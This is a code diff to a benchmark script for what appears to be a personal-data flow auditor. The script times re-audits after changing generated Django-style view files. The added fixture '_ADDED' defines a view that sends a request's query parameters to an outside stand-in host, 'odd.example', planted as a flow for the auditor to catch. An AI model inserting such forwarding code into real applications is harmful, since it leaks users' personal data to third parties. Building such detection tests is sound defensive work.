@@ -70,13 +70,29 @@ def _clean() -> Iterator[Row]:
         cache = Path(folder) / "learnt.sqlite"
         first = _audit(root, cache)
         changed = sorted(root.rglob("views.py"))[:CHANGED]
-        for path in changed:
-            path.write_text(path.read_text(encoding="utf-8") + "\n# changed\n", encoding="utf-8")
+        _add(changed, "\n# changed\n")
         again = _audit(root, cache)
+        _add(changed, _ADDED)
+        anew = _audit(root, cache)
         yield row(f"flows of personal data told in {count:,} clean files", first["told"], "flows", at_most=0)
         yield row("files audited a second of processor time", count / first["seconds"], "files/s", at_least=1000)
         yield row("memory of that", first["memory"], "MiB", at_most=300)
-        yield row(f"audit again after {len(changed)} files changed", again["seconds"], "s", at_most=1)
+        yield row(f"audit again after {len(changed)} of these changed", again["seconds"], "s", at_most=1)
+        yield row("audit again after what they do changed as well", anew["seconds"], "s", at_most=1)
+
+
+_ADDED = """
+
+def added(request):
+    import requests
+
+    return requests.get("https://odd.example/in", params=request.GET, timeout=9)
+"""
+
+
+def _add(paths: list[Path], text: str) -> None:
+    for path in paths:
+        path.write_text(path.read_text(encoding="utf-8") + text, encoding="utf-8")
 
 
 def _lay(root: Path, samples: Files) -> None:
